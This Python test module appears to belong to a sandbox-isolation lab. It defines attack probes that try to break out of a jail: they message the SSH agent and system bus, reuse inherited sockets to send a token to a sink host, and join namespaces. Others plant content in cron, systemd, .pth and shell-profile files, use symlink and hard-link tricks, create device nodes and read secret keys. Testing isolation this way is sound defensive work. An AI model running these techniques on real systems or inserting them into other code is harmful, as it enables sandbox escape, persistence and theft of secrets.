"""Attacks through what lies around on the machine: other programs' sockets, inherited descriptors, files run
later.
"""

import contextlib
import ctypes
import os
import socket
import stat
from pathlib import Path

from tests.lab.hostile import Plan, attack, libc

HIGHEST = 256


def _tell(address: str, token: bytes) -> None:
    with socket.socket(socket.AF_UNIX) as out:
        out.settimeout(2)
        out.connect(address)
        out.sendall(token)
        out.recv(1)


@attack("service")
def attack_system_bus(plan: Plan, token: bytes) -> None:
    _tell(plan.paths["bus"], token)


@attack("service")
def attack_ssh_agent(plan: Plan, token: bytes) -> None:
    _tell(plan.paths["agent"], token)


@attack("service")
def attack_terminal_multiplexer(plan: Plan, token: bytes) -> None:
    _tell(plan.paths["multiplexer"], token)


@attack("service")
def attack_abstract_socket(plan: Plan, token: bytes) -> None:
    _tell("\0" + plan.paths["abstract"][1:], token)


@attack("service")
def attack_console(plan: Plan, token: bytes) -> None:
    _tell(plan.paths["console"], token)


@attack("service")
def attack_loopback_resolver(plan: Plan, token: bytes) -> None:
    with socket.create_connection(("127.0.0.1", plan.loopback_port), 2) as out:
        out.sendall(token)
        out.recv(1)


@attack("queue")
def attack_message_queue(plan: Plan, token: bytes) -> None:
    queue = libc.msgget(plan.queue_key, 0)
    message = ctypes.create_string_buffer((1).to_bytes(8, "little") + token)
    if queue < 0 or libc.msgsnd(queue, message, len(token), 0) != 0:
        raise OSError(ctypes.get_errno(), "no queue")


# descriptors


def _inherited() -> list[int]:
    return [fd for fd in range(3, HIGHEST) if _is_open(fd)]


def _is_open(fd: int) -> bool:
    try:
        os.fstat(fd)
    except OSError:
        return False
    return True


@attack("sink")
def attack_inherited_listener(plan: Plan, token: bytes) -> None:
    """A listening socket made before the jail is a way out: disconnect it, then connect it anywhere."""
    for fd in _inherited():
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            reused = socket.socket(fileno=os.dup(fd))
            if reused.family == socket.AF_INET and reused.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                unspecified = ctypes.create_string_buffer(16)
                libc.connect(reused.fileno(), unspecified, 16)
                reused.settimeout(2)
                reused.connect((plan.sinks[0], 443))
                reused.sendall(token)


@attack("sink")
def attack_inherited_connection(plan: Plan, token: bytes) -> None:
    del plan
    for fd in _inherited():
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            reused = socket.socket(fileno=os.dup(fd))
            with contextlib.suppress(OSError):
                if reused.family == socket.AF_INET and reused.getpeername():
                    reused.sendall(token)


@attack("file home_rc")
def attack_inherited_folder(plan: Plan, token: bytes) -> None:
    """A descriptor of a folder leads to all that lies below and above it."""
    for fd in _inherited():
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            out = os.open(Path(plan.paths["home_rc"]).name, os.O_WRONLY | os.O_APPEND | os.O_CREAT, dir_fd=fd)
            os.write(out, token)


@attack("claim", as_user=False)
def attack_inherited_namespace(plan: Plan, token: bytes) -> bool:
    del plan, token
    return any(libc.setns(fd, 0x40000000) == 0 for fd in _inherited())


# what runs later, outside


def _plant(plan: Plan, name: str, token: bytes) -> None:
    with Path(plan.paths[name]).open("ab") as out:
        out.write(token)


@attack("file code")
def attack_write_code(plan: Plan, token: bytes) -> None:
    _plant(plan, "code", token)


@attack("file pth")
def attack_write_pth(plan: Plan, token: bytes) -> None:
    _plant(plan, "pth", token)


@attack("file home_profile")
def attack_write_home(plan: Plan, token: bytes) -> None:
    Path(plan.paths["home_profile"]).parent.mkdir(parents=True, exist_ok=True)
    _plant(plan, "home_profile", token)


@attack("file cron")
def attack_write_cron(plan: Plan, token: bytes) -> None:
    _plant(plan, "cron", token)


@attack("file unit")
def attack_write_unit(plan: Plan, token: bytes) -> None:
    Path(plan.paths["unit"]).parent.mkdir(parents=True, exist_ok=True)
    _plant(plan, "unit", token)


@attack("file environment")
def attack_write_environment(plan: Plan, token: bytes) -> None:
    Path(plan.paths["environment"]).parent.mkdir(parents=True, exist_ok=True)
    _plant(plan, "environment", token)


@attack("file ledger")
def attack_write_ledger(plan: Plan, token: bytes) -> None:
    _plant(plan, "ledger", token)


@attack("file shared_tmp")
def attack_write_shared_tmp(plan: Plan, token: bytes) -> None:
    _plant(plan, "shared_tmp", token)


@attack("file ledger")
def attack_symlink_in_own_folder(plan: Plan, token: bytes) -> None:
    """Reach the gate's folder by a link from the own one."""
    link = Path(plan.paths["state"]) / "link"
    link.symlink_to(plan.paths["ledger"])
    with link.open("ab") as out:
        out.write(token)


@attack("file code")
def attack_hard_link_to_code(plan: Plan, token: bytes) -> None:
    link = Path(plan.paths["state"]) / "hard"
    os.link(plan.paths["code"], link)
    with link.open("ab") as out:
        out.write(token)


@attack("swapped")
def attack_symlink_for_a_socket(plan: Plan, token: bytes) -> None:
    """Let the gate's own socket name lead elsewhere."""
    del token
    control = Path(plan.paths["control"])
    control.unlink(missing_ok=True)
    control.symlink_to(plan.paths["console"])


@attack("claim")
def attack_read_secret(plan: Plan, token: bytes) -> bool:
    return Path(plan.paths["key"]).read_bytes() != token


@attack("claim", as_user=False)
def attack_device_node(plan: Plan, token: bytes) -> bool:
    """A device of one's own making."""
    del token
    node = Path(plan.paths["state"]) / "node"
    os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(1, 5))
    try:
        with node.open("rb") as device:
            return len(device.read(1)) == 1
    finally:
        node.unlink()


@attack("claim", as_user=False)
def attack_disk(plan: Plan, token: bytes) -> bool:
    """The machine's kernel log and disks by their nodes."""
    del plan, token
    with open("/dev/kmsg", "rb"):  # noqa: PTH123 -- as plain as hostile code is
        return True


@attack("claim")
def attack_proxy_variable_seen(plan: Plan, token: bytes) -> bool:
    del plan, token
    return "HTTP_PROXY" in os.environ
